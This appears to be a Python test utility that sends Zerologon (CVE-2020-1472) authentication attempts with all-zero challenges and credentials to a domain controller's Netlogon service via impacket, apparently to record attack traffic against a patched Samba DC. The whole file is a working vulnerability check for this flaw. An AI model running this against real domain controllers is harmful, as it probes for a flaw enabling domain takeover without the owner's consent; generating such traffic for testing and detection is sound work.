#!/usr/bin/env python3
"""Zerologon (CVE-2020-1472) attempt for scripts/record-windows.sh: the
NetrServerReqChallenge / NetrServerAuthenticate3 pairs with an all-zero
client challenge and credential that the published testers send (Secura's
zerologon_tester.py, also made with impacket), over netlogon on TCP found
through the endpoint mapper. A patched DC (Samba 4.13+) refuses every one;
only the attempt is wanted on the wire. Usage: zerologon-attempt.py DC_NAME DC_IP [TRIES]
"""
import sys

from impacket.dcerpc.v5 import epm, nrpc, transport


def main():
    name, ip = sys.argv[1], sys.argv[2]
    tries = int(sys.argv[3]) if len(sys.argv) > 3 else 20
    binding = epm.hept_map(ip, nrpc.MSRPC_UUID_NRPC, protocol="ncacn_ip_tcp")
    dce = transport.DCERPCTransportFactory(binding).get_dce_rpc()
    dce.connect()
    dce.bind(nrpc.MSRPC_UUID_NRPC)
    zero = b"\x00" * 8
    for i in range(tries):
        nrpc.hNetrServerReqChallenge(dce, "\\\\" + name + "\x00", name + "\x00", zero)
        try:
            nrpc.hNetrServerAuthenticate3(
                dce,
                "\\\\" + name + "\x00",
                name + "$\x00",
                nrpc.NETLOGON_SECURE_CHANNEL_TYPE.ServerSecureChannel,
                name + "\x00",
                zero,
                0x212FFFFF,
            )
            print(f"attempt {i}: accepted (vulnerable)")
            return
        except nrpc.DCERPCSessionError as e:
            print(f"attempt {i}: refused ({e.get_error_code():#x})")
    print("not vulnerable")


if __name__ == "__main__":
    main()
